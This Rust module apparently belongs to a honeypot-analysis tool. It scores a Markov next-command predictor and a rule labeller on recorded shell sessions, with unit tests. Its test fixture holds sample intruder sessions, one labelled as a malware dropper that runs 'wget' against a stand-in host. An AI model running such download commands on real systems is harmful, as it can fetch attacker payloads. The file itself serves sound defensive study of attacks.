//! `mirage evaluate`: how well the models do on a corpus of recorded sessions (the JSON-lines
//! format of the training data), in the views of the evaluation contract: next-command
//! prediction pooled, on novel sessions and per class, and classification by the rule
//! labeller after three commands and at the end.
//!
//! Command *i* of a session is predicted from commands 0…*i*−1, where commands are input lines
//! split on `;` and newlines outside quotes. A session is *novel* when its normalized command
//! sequence is not among the model's training sequences. Pure: the caller reads the files.

use std::collections::{BTreeMap, HashMap};
use std::fmt::Write as _;

use serde::{Deserialize, Serialize};

use super::commands::split;
use super::labels::label;
use super::markov::Markov;
use super::normalize::{Normalized, normalize_line};

/// One input line of a corpus session.
#[derive(Debug, Clone, Deserialize)]
pub struct Line {
    /// Seconds since the session started, when known.
    #[serde(default)]
    pub t: Option<f64>,
    /// What was typed.
    pub input: String,
}

/// One corpus session (the fields evaluation uses; others are ignored).
#[derive(Debug, Clone, Deserialize)]
pub struct Session {
    /// Where it was captured (`owner/repo:path`).
    #[serde(default)]
    pub source: String,
    /// When it started (RFC 3339, so it sorts as text).
    #[serde(default)]
    pub start: String,
    /// Its input lines.
    #[serde(default)]
    pub commands: Vec<Line>,
    /// Its class, when labelled.
    #[serde(default)]
    pub label: Option<String>,
}

impl Session {
    /// Its normalized commands, in order.
    pub fn normalized(&self) -> Vec<Normalized> {
        self.commands
            .iter()
            .flat_map(|line| normalize_line(&line.input))
            .collect()
    }
}

/// A corpus line that is not a session.
#[derive(Debug, thiserror::Error)]
#[error("corpus line {line}: {source}")]
pub struct CorpusError {
    /// 1-based line number.
    pub line: usize,
    /// What is wrong with it.
    #[source]
    pub source: serde_json::Error,
}

/// The sessions of a JSON-lines corpus; blank lines are skipped.
pub fn read_corpus(text: &str) -> Result<Vec<Session>, CorpusError> {
    text.lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .map(|(i, l)| {
            serde_json::from_str(l).map_err(|source| CorpusError {
                line: i + 1,
                source,
            })
        })
        .collect()
}

/// Splits sessions into (older, newest): the newest `fraction` of each source by start time
/// are held out, as the sealed evaluation set is.
pub fn holdout(sessions: Vec<Session>, fraction: f64) -> (Vec<Session>, Vec<Session>) {
    let mut by_source: BTreeMap<String, Vec<Session>> = BTreeMap::new();
    for session in sessions {
        by_source
            .entry(session.source.clone())
            .or_default()
            .push(session);
    }
    let (mut train, mut test) = (Vec::new(), Vec::new());
    for (_, mut group) in by_source {
        group.sort_by(|a, b| a.start.cmp(&b.start));
        let held = ((group.len() as f64) * fraction.clamp(0.0, 1.0)).round() as usize;
        let cut = group.len() - held.min(group.len());
        test.extend(group.split_off(cut));
        train.extend(group);
    }
    (train, test)
}

/// A trained command model of `order` from these sessions.
pub fn train(sessions: &[Session], order: usize) -> Markov {
    let sequences: Vec<Vec<Normalized>> = sessions.iter().map(Session::normalized).collect();
    Markov::trained(order, sequences.iter().map(Vec::as_slice))
}

/// Accuracy of one view of the prediction.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Accuracy {
    /// Share of commands predicted exactly first.
    pub top1: f64,
    /// Share of commands among the first three predictions.
    pub top3: f64,
    /// Share of commands whose program the first prediction got right.
    pub program_top1: f64,
    /// Commands predicted.
    pub n: usize,
}

/// A class's prediction accuracy.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct ClassAccuracy {
    /// Share of commands predicted exactly first.
    pub top1: f64,
    /// Commands predicted.
    pub n: usize,
}

/// The prediction views.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct PredictionReport {
    /// Every command of every session.
    pub pooled: Accuracy,
    /// Commands of sessions whose sequence the model never saw.
    pub novel: Accuracy,
    /// Per labelled class.
    pub per_class: BTreeMap<String, ClassAccuracy>,
}

/// The rule labeller against the corpus labels.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct ClassificationReport {
    /// Accuracy from the first three commands.
    pub after_3: f64,
    /// Accuracy from the whole session.
    pub at_end: f64,
    /// Macro-F1 of the whole-session labels over the classes present.
    pub macro_f1: f64,
}

/// The evaluation report (`mirage evaluate --json`).
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Report {
    /// Next-command prediction.
    pub prediction: PredictionReport,
    /// Session classification.
    pub classification: ClassificationReport,
}

#[derive(Default)]
struct Tally {
    top1: usize,
    top3: usize,
    program: usize,
    n: usize,
}

impl Tally {
    fn accuracy(&self) -> Accuracy {
        let share = |x: usize| {
            if self.n == 0 {
                0.0
            } else {
                x as f64 / self.n as f64
            }
        };
        Accuracy {
            top1: share(self.top1),
            top3: share(self.top3),
            program_top1: share(self.program),
            n: self.n,
        }
    }
}

/// Evaluates `model` (and the rule labeller) on `sessions`.
pub fn evaluate(model: &Markov, sessions: &[Session]) -> Report {
    let (mut pooled, mut novel) = (Tally::default(), Tally::default());
    let mut per_class: BTreeMap<String, Tally> = BTreeMap::new();
    for session in sessions {
        let sequence = session.normalized();
        let is_novel = !model.seen(&sequence);
        for i in 0..sequence.len() {
            let predicted = model.predict(&sequence[..i], 3);
            let actual = &sequence[i];
            let top1 = predicted.first().is_some_and(|p| p.token == actual.token);
            let top3 = predicted.iter().any(|p| p.token == actual.token);
            let program = predicted
                .first()
                .is_some_and(|p| p.program == actual.program);
            let mut tallies = vec![&mut pooled];
            if is_novel {
                tallies.push(&mut novel);
            }
            for tally in tallies {
                tally.n += 1;
                tally.top1 += usize::from(top1);
                tally.top3 += usize::from(top3);
                tally.program += usize::from(program);
            }
            if let Some(class) = &session.label {
                let tally = per_class.entry(class.clone()).or_default();
                tally.n += 1;
                tally.top1 += usize::from(top1);
            }
        }
    }
    Report {
        prediction: PredictionReport {
            pooled: pooled.accuracy(),
            novel: novel.accuracy(),
            per_class: per_class
                .into_iter()
                .map(|(class, t)| {
                    let a = t.accuracy();
                    (
                        class,
                        ClassAccuracy {
                            top1: a.top1,
                            n: a.n,
                        },
                    )
                })
                .collect(),
        },
        classification: classify(sessions),
    }
}

/// The rule labeller on the first three commands and on all, against the corpus labels.
fn classify(sessions: &[Session]) -> ClassificationReport {
    let (mut early_hits, mut end_hits, mut n) = (0usize, 0usize, 0usize);
    let mut pairs: Vec<(String, String)> = Vec::new();
    for session in sessions {
        let Some(truth) = &session.label else {
            continue;
        };
        let first3: Vec<(Option<f64>, String)> = session
            .commands
            .iter()
            .flat_map(|line| {
                split(&line.input)
                    .into_iter()
                    .map(move |c| (line.t, c.text))
            })
            .take(3)
            .collect();
        let early = label(
            &first3
                .iter()
                .map(|(t, s)| (*t, s.as_str()))
                .collect::<Vec<_>>(),
        );
        let all: Vec<(Option<f64>, &str)> = session
            .commands
            .iter()
            .map(|l| (l.t, l.input.as_str()))
            .collect();
        let end = label(&all).class.as_str().to_owned();
        n += 1;
        early_hits += usize::from(early.class.as_str() == truth);
        end_hits += usize::from(&end == truth);
        pairs.push((truth.clone(), end));
    }
    let share = |x: usize| if n == 0 { 0.0 } else { x as f64 / n as f64 };
    ClassificationReport {
        after_3: share(early_hits),
        at_end: share(end_hits),
        macro_f1: macro_f1(&pairs),
    }
}

/// Macro-F1 over the classes that occur as truth or prediction in `(truth, predicted)` pairs.
fn macro_f1(pairs: &[(String, String)]) -> f64 {
    let mut counts: HashMap<&str, (usize, usize, usize)> = HashMap::new(); // tp, fp, fn
    for (truth, predicted) in pairs {
        if truth == predicted {
            counts.entry(truth).or_default().0 += 1;
        } else {
            counts.entry(predicted).or_default().1 += 1;
            counts.entry(truth).or_default().2 += 1;
        }
    }
    if counts.is_empty() {
        return 0.0;
    }
    let sum: f64 = counts
        .values()
        .map(|&(tp, fp, fn_)| {
            let denominator = 2 * tp + fp + fn_;
            if denominator == 0 {
                0.0
            } else {
                2.0 * tp as f64 / denominator as f64
            }
        })
        .sum();
    sum / counts.len() as f64
}

impl Report {
    /// The report as a readable table.
    pub fn table(&self) -> String {
        let mut out = String::new();
        let p = &self.prediction;
        writeln!(
            out,
            "{:<24} {:>7} {:>7} {:>9} {:>8}",
            "prediction", "top1", "top3", "program", "n"
        )
        .ok();
        for (name, a) in [("pooled", &p.pooled), ("novel", &p.novel)] {
            writeln!(
                out,
                "{name:<24} {:>7.3} {:>7.3} {:>9.3} {:>8}",
                a.top1, a.top3, a.program_top1, a.n
            )
            .ok();
        }
        for (class, a) in &p.per_class {
            writeln!(
                out,
                "  {class:<22} {:>7.3} {:>7} {:>9} {:>8}",
                a.top1, "", "", a.n
            )
            .ok();
        }
        let c = &self.classification;
        writeln!(out, "\nclassification (rule labeller)").ok();
        writeln!(out, "{:<24} {:>7.3}", "after 3 commands", c.after_3).ok();
        writeln!(out, "{:<24} {:>7.3}", "at end", c.at_end).ok();
        writeln!(out, "{:<24} {:>7.3}", "macro-F1", c.macro_f1).ok();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CORPUS: &str = r#"
{"source": "a", "start": "2020-01-01T00:00:00Z", "commands": [{"t": 0, "input": "uname -a; w"}, {"t": 1, "input": "free -m"}], "label": "recon_fingerprint"}
{"source": "a", "start": "2020-01-02T00:00:00Z", "commands": [{"t": 0, "input": "uname -a; w"}, {"t": 1, "input": "free -m"}], "label": "recon_fingerprint"}
{"source": "a", "start": "2020-01-03T00:00:00Z", "commands": [{"t": 0, "input": "uname -a"}, {"t": 1, "input": "wget http://x/y"}], "label": "malware_dropper"}
{"source": "b", "start": "2020-01-01T00:00:00Z", "commands": [{"t": null, "input": "uname -a; w; free -m"}], "label": "recon_fingerprint"}
"#;

    #[test]
    fn the_newest_share_of_each_source_is_held_out() {
        let sessions = read_corpus(CORPUS).expect("corpus");
        let (train, test) = holdout(sessions, 0.34);
        assert_eq!(train.len(), 3);
        assert_eq!(test.len(), 1);
        assert_eq!(test[0].start, "2020-01-03T00:00:00Z");
    }

    #[test]
    fn report_counts_pooled_novel_and_per_class() {
        let sessions = read_corpus(CORPUS).expect("corpus");
        let (train_set, test) = holdout(sessions, 0.34);
        let model = train(&train_set, 5);
        let report = evaluate(&model, &test);
        let p = &report.prediction;
        // uname -a (predicted: it always starts), then wget (predicted w): 1 of 2.
        assert_eq!(p.pooled.n, 2);
        assert!((p.pooled.top1 - 0.5).abs() < 1e-9, "{p:?}");
        assert_eq!(p.novel.n, 2, "the dropper sequence was never trained on");
        assert_eq!(p.per_class["malware_dropper"].n, 2);
        assert_eq!(report.classification.at_end, 1.0);
        // On the training sessions themselves nothing is novel and the chain is exact.
        let seen = evaluate(&model, &train_set);
        assert_eq!(seen.prediction.novel.n, 0);
        assert_eq!(seen.prediction.pooled.top1, 1.0);
        let json = serde_json::to_value(&seen).expect("json");
        assert!(json["prediction"]["pooled"]["top3"].is_number());
        assert!(json["classification"]["macro_f1"].is_number());
        assert!(seen.table().contains("pooled"));
    }

    #[test]
    fn a_bad_line_is_named_by_number() {
        let err = read_corpus("{\"commands\": []}\nnot json\n").expect_err("bad line");
        assert_eq!(err.line, 2);
    }

    #[test]
    fn macro_f1_averages_over_classes() {
        let pairs = [("a", "a"), ("a", "b"), ("b", "b")].map(|(t, p)| (t.to_owned(), p.to_owned()));
        // a: tp1 fn1 → 2/3; b: tp1 fp1 → 2/3.
        assert!((macro_f1(&pairs) - 2.0 / 3.0).abs() < 1e-9);
    }
}
